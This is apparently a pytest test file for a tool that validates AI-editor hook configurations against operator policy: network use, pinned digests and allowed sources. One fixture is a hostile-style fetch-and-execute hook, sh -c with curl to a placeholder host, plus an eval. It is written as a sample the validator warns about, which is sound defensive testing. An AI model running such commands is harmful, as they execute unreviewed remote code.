"""`validate` against the operator's policy: allowed sources, pinned digests, network."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from cloudrunner.cli import main
from cloudrunner.sources import pinning
from cloudrunner.validate import network_needs


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("npx prettier --write .", "npx fetches packages"),
        ("bunx eslint .", "bunx fetches packages"),
        ("uvx ruff check", "uvx fetches packages"),
        ("pnpm dlx tsx hook.ts", "pnpm dlx fetches packages"),
        ("npm install && node hook.js", "npm fetches packages"),
        ("pip install requests && python3 x.py", "pip install fetches packages"),
        ("uv pip install rich", "uv fetches packages"),
        (
            "curl -s -X POST https://hooks.slack.example/T0/B0 -d @-",
            "curl calls hooks.slack.example",
        ),
        ("wget -qO- http://api.example.com/v1", "wget calls api.example.com"),
        ("git fetch origin && git diff", "git talks to a remote"),
    ],
)
def test_commands_that_need_the_network(command: str, expected: str) -> None:
    assert expected in network_needs(command)


@pytest.mark.parametrize(
    "command",
    [
        ".cursor/hooks/guard.sh",
        "node .cursor/hooks/npx-free.js",
        "python3 -c 'print(1)'",
        "curl -s http://localhost:8080/health",
        "curl -s http://127.0.0.1:9/x",
        "echo my-npx-wrapper",
        "git diff --cached --name-only",
        "jq -r .command",
    ],
)
def test_commands_that_do_not(command: str) -> None:
    assert network_needs(command) == []


def write_repo(tmp_path: Path, commands: list[str]) -> Path:
    root = tmp_path / "repo"
    (root / ".cursor").mkdir(parents=True)
    hooks = {"version": 1, "hooks": {"stop": [{"command": c} for c in commands]}}
    (root / ".cursor" / "hooks.json").write_text(json.dumps(hooks))
    return root


def report(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, dict[str, object]]:
    code = main(["validate", "--format", "json", *args])
    return code, json.loads(capsys.readouterr().out)


def codes(result: dict[str, object]) -> list[str]:
    (file,) = result["files"]  # type: ignore[misc]
    return [d["code"] for d in file["diagnostics"]]


def test_a_network_hint_names_the_setting_under_network_none(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("CLOUDRUNNER_CONFIG", raising=False)
    root = write_repo(tmp_path, ["npx -y some-memory-hook"])
    code, result = report(capsys, str(root))
    assert code == 0  # a warning
    (file,) = result["files"]  # type: ignore[misc]
    (hint,) = [d for d in file["diagnostics"] if d["code"] == "needs-network"]
    assert hint["severity"] == "warning" and "network" in hint["message"]
    assert hint["line"] is not None
    assert "egress.project.policy = allowlist with registry.npmjs.org" in hint["message"]
    # an allowlist that lacks the registry still warns, one that has it does not
    config = tmp_path / "config.toml"
    config.write_text('[egress.project]\npolicy = "allowlist"\ndomains = ["api.mem0.ai"]\n')
    code, result = report(capsys, "--config", str(config), str(root))
    (file,) = result["files"]  # type: ignore[misc]
    (hint,) = [d for d in file["diagnostics"] if d["code"] == "needs-network"]
    assert "does not allow registry.npmjs.org" in hint["message"]
    config.write_text('[egress.project]\npolicy = "allowlist"\ndomains = ["*.npmjs.org"]\n')
    code, result = report(capsys, "--config", str(config), str(root))
    assert "needs-network" not in codes(result)
    # an enterprise source the operator gave a network gets no hint
    config = tmp_path / "config.toml"
    config.write_text('[sandbox.per_source.enterprise]\nnetwork = "corp-tools"\n')
    code, result = report(capsys, "--config", str(config), "--source", "enterprise", str(root))
    assert "needs-network" not in codes(result)


def test_the_digest_is_shown_and_a_pinned_repository_must_match(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    root = write_repo(tmp_path, ["echo {}"])
    digest = pinning.compute(root, (root / ".cursor" / "hooks.json").read_bytes()).digest
    empty = tmp_path / "empty.toml"
    empty.write_text("")
    code, result = report(capsys, "--config", str(empty), str(root))
    assert code == 0 and not [c for c in codes(result) if c.startswith("project-")]
    pinned = tmp_path / "pinned.toml"
    pinned.write_text(f'[sources]\nproject_digests = ["{"0" * 64}"]\n')
    code, result = report(capsys, "--config", str(pinned), str(root))
    assert code == 1 and "project-not-approved" in codes(result)
    (file,) = result["files"]  # type: ignore[misc]
    assert any(digest in d["message"] for d in file["diagnostics"])
    pinned.write_text(f'[sources]\nproject_digests = ["{digest}"]\n')
    code, result = report(capsys, "--config", str(pinned), str(root))
    assert code == 0 and "project-approved" in codes(result)


def test_a_source_the_settings_do_not_allow_is_an_error(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    root = write_repo(tmp_path, ["echo {}"])
    managed = tmp_path / "managed.toml"
    managed.write_text('[sources]\nallowed = ["enterprise", "team"]\n')
    code, result = report(capsys, "--config", str(managed), str(root))
    assert code == 1 and "source-not-allowed" in codes(result)


def test_a_bad_digest_in_the_settings_is_a_clear_error(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    root = write_repo(tmp_path, ["echo {}"])
    bad = tmp_path / "bad.toml"
    bad.write_text('[sources]\nproject_digests = ["sha256:abc"]\nallowed = ["projects"]\n')
    assert main(["validate", "--config", str(bad), str(root)]) == 2
    err = capsys.readouterr().err
    assert "sources.project_digests.0" in err and "is not a hooks digest" in err
    assert "sources.allowed.0" in err


def test_what_a_pinned_digest_cannot_see_is_a_warning(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    root = write_repo(tmp_path, ['sh -c "$(curl -s https://example.invalid/x)"', "eval $X"])
    data = (root / ".cursor" / "hooks.json").read_bytes()
    pinned = tmp_path / "pinned.toml"
    pinned.write_text(f'[sources]\nproject_digests = ["{pinning.compute(root, data).digest}"]\n')
    code, result = report(capsys, "--config", str(pinned), str(root))
    assert code == 0 and "project-approved" in codes(result)
    (file,) = result["files"]  # type: ignore[misc]
    (unseen,) = [d for d in file["diagnostics"] if d["code"] == "project-digest-unseen"]
    assert "command substitution" in unseen["message"] and "eval" in unseen["message"]


def test_validate_reads_script_words_as_the_shell_does(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A script in a subshell or after `;` is checked; a file a redirection creates is not."""
    monkeypatch.delenv("CLOUDRUNNER_CONFIG", raising=False)
    root = write_repo(tmp_path, ["echo hi 2>logs/x.txt; (tools/missing.sh)"])
    _, result = report(capsys, "--no-image-check", str(root))
    (file,) = result["files"]  # type: ignore[misc]
    missing = [d["message"] for d in file["diagnostics"] if d["code"] == "script-not-found"]
    assert len(missing) == 1 and "tools/missing.sh" in missing[0]


def test_hooks_of_a_file_that_does_not_load_are_not_said_to_run(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    root = write_repo(tmp_path, ["echo one", "echo two"])
    pinned = tmp_path / "pinned.toml"
    pinned.write_text(f'[sources]\nproject_digests = ["{"0" * 64}"]\n')
    code, result = report(capsys, "--config", str(pinned), str(root))
    (file,) = result["files"]  # type: ignore[misc]
    assert code == 1 and [h["verdict"] for h in file["hooks"]] == ["skipped", "skipped"]
    assert all("digest is not approved" in h["reason"] for h in file["hooks"])
    # the text report says so on every per-hook line, and "runs" nowhere
    assert main(["validate", "--config", str(pinned), str(root)]) == 1
    text = capsys.readouterr().out
    hook_lines = [line for line in text.splitlines() if "echo " in line]
    assert len(hook_lines) == 2, text
    assert all("runs" not in line and "does not load" in line for line in hook_lines), text
    # approved, the same hooks run
    digest = pinning.compute(root, (root / ".cursor" / "hooks.json").read_bytes()).digest
    pinned.write_text(f'[sources]\nproject_digests = ["{digest}"]\n')
    code, result = report(capsys, "--config", str(pinned), str(root))
    (file,) = result["files"]  # type: ignore[misc]
    assert code == 0 and [h["verdict"] for h in file["hooks"]] == ["runs", "runs"]
